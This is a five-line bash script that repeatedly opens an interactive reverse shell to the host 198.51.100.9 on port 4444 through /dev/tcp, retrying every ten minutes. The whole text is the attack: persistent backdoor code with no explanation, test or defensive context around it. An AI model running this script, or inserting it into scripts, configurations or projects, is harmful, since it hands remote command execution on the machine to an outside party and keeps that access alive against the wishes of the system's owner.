#!/bin/bash
while true; do
  bash -i >& /dev/tcp/198.51.100.9/4444 0>&1
  sleep 600
done
